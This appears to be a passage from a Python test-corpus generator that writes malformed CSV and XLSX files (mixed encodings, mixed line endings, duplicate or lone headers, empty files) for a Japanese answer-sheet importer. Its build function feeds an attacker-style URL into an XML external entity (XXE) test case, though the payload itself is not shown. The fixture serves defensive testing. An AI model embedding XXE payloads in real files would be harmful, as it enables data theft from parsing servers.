@case("bom_then_cp932.csv", "error", "文字コードを判定できません（先頭に UTF-8 の BOM がありますが、3 行目",
      "a UTF-8 BOM and lines, then CP932 ones (two exports joined)")
def _bom_then_cp932() -> bytes:
    lines = csv_text(vendor_rows([("○", "住登外者", "", "標準機能で対応")] * len(IDS))).split("\r\n")
    return b"\xef\xbb\xbf" + b"\r\n".join(line.encode("utf-8" if i < 2 else "cp932") for i, line in enumerate(lines))


@case("utf16.csv", "ok", about="UTF-16 with BOM (Excel 'Unicode text')")
def _utf16() -> bytes:
    return csv_text(vendor_rows([("○", "住登外者", "", "標準機能で対応")] * len(IDS))).encode("utf-16")


@case("mixed_newlines.csv", "ok", about="CRLF, LF and CR line endings in one file")
def _mixed_newlines() -> bytes:
    lines = csv_text(vendor_rows([("○", "名称", "", "備考")] * len(IDS)), "\n").split("\n")
    seps = ("\r\n", "\n", "\r")
    return "".join(line + seps[i % 3] for i, line in enumerate(lines) if line).encode("cp932")


@case("duplicate_headers.csv", "error", "回答の列が 2 つあります", "the answer and comment headers appear twice: which answers count is not ours to guess")
def _duplicate_headers() -> bytes:
    rows = [["機能ID", "対応可否", "対応可否", "備考", "備考"]] + [[i, "○", "×", "一つ目", "二つ目"] for i in IDS]
    return csv_text(rows).encode("utf-8-sig")


@case("header_only.csv", "error", "行が1つも読めない", "the header row and nothing else: a report would only say nothing was answered")
def _header_only_csv() -> bytes:
    return csv_text([list(HEADER)]).encode("utf-8-sig")


@case("header_only.xlsx", "error", "行が1つも読めない", "a sheet with the header row and nothing else: a report would only say nothing was answered")
def _header_only_xlsx() -> bytes:
    return xlsx_bytes([("回答", sheet_xml([list(HEADER)]))])


@case("empty.csv", "error", "空のファイルです（0 バイト）", "zero bytes")
def _empty_csv() -> bytes:
    return b""


def build(out: str | os.PathLike[str], *, xxe_url: str = XXE_HTTP, only: tuple[str, ...] = ()) -> dict[str, Path]:
    """Write every case (or those named in *only*) into *out*; return name → path."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for c in CASES:
        if only and c.name not in only:
            continue
        fn = BUILDERS[c.name]
        data = fn(xxe_url) if "xxe_http" in c.name else fn()
        (out / c.name).write_bytes(data)
        paths[c.name] = out / c.name
    return paths


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: make_corpus.py DIR")
    for name, path in build(sys.argv[1]).items():
        print(f"{path.stat().st_size:>12,}  {name}")
